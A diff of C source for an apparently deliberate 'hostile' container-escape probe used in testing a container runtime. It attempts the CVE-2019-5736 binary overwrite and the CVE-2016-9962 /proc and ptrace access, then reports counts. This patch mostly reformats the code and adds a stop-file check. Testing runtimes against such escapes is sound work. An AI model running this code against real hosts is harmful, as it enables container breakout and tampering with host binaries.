@@ -2,10 +2,11 @@
 /*
  * A hostile program for the inside; static, and linked with nothing of ours.
  *
- * thief watch MS: for so long it looks at every process that turns up as
- * "kist": keeps its file open, to write to it when it has ended
- * (CVE-2019-5736), and tries to trace it and to open its memory, root, cwd and
- * files (CVE-2016-9962).  Tells "seen", and what it could do.
+ * thief watch MS: for so long, or until there is a file /stop, it looks at
+ * every process that turns up as "kist": keeps its file open, to write to it
+ * when it has ended (CVE-2019-5736), and tries to trace it and to open its
+ * memory, root, cwd and files (CVE-2016-9962).  Tells "seen", and what it could
+ * do.
  * thief int80 NUMBER: a system call of the 32-bit kind.
  */
 #define _GNU_SOURCE
@@ -20,7 +21,7 @@
 #include <time.h>
 #include <unistd.h>
 
-#define KEPT_MAX	64
+#define KEPT_MAX 64
 static int kept[KEPT_MAX], kept_count;
 static long seen, entered, traced;
 
@@ -50,9 +51,13 @@ static int of_process(int pid, const char *what, int flags)
 
 static void enter(int pid)
 {
-	static const struct { const char *what; int flags; } doors[] = {
-		{ "root", O_PATH }, { "cwd", O_PATH }, { "fd/0", O_PATH }, { "fd/3", O_PATH },
-		{ "mem", O_RDWR }, { "ns/mnt", O_RDONLY }, { "maps", O_RDONLY },
+	static const struct {
+		const char *what;
+		int flags;
+	} doors[] = {
+		{ "root", O_PATH },   { "cwd", O_PATH }, { "fd/0", O_PATH },
+		{ "fd/3", O_PATH },   { "mem", O_RDWR }, { "ns/mnt", O_RDONLY },
+		{ "maps", O_RDONLY },
 	};
 
 	for (size_t i = 0; i < sizeof(doors) / sizeof(doors[0]); i++) {
@@ -69,6 +74,9 @@ static void enter(int pid)
 	if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
 		if (is_kist(pid))
 			traced++;
+		/* Or its parent could not reap it. */
+		ptrace(PTRACE_INTERRUPT, pid, 0, 0);
+		waitpid(pid, NULL, __WALL);
 		ptrace(PTRACE_DETACH, pid, 0, 0);
 	}
 }
@@ -107,7 +115,8 @@ static void overwrite(void)
 		if (fd >= 0)
 			close(fd);
 		/* Its attributes are as good. */
-		printf("chmod=%s\n", fchmodat(AT_FDCWD, path, 0777, 0) == 0 ? "done" : strerror(errno));
+		printf("chmod=%s\n",
+		       fchmodat(AT_FDCWD, path, 0777, 0) == 0 ? "done" : strerror(errno));
 	}
 }
 
@@ -122,11 +131,11 @@ static void watch(long ms)
 	do {
 		look();
 		clock_gettime(CLOCK_MONOTONIC, &now);
-	} while (now.tv_sec <= end.tv_sec);
+	} while (now.tv_sec <= end.tv_sec && access("/stop", F_OK) < 0);
 	usleep(200000);
 	overwrite();
-	printf("seen=%ld\nkept=%d\nentered_count=%ld\ntraced=%ld\nend=1\n", seen, kept_count, entered,
-	       traced);
+	printf("seen=%ld\nkept=%d\nentered_count=%ld\ntraced=%ld\nend=1\n", seen, kept_count,
+	       entered, traced);
 }
 
 static void int80(long number)
@@ -134,7 +143,10 @@ static void int80(long number)
 #if defined(__x86_64__)
 	long result;
 
-	__asm__ volatile("int $0x80" : "=a"(result) : "a"(number) : "memory", "r8", "r9", "r10", "r11");
+	__asm__ volatile("int $0x80"
+			 : "=a"(result)
+			 : "a"(number)
+			 : "memory", "r8", "r9", "r10", "r11");
 	printf("int80=%d\n", (int)result);
 #else
 	(void)number;
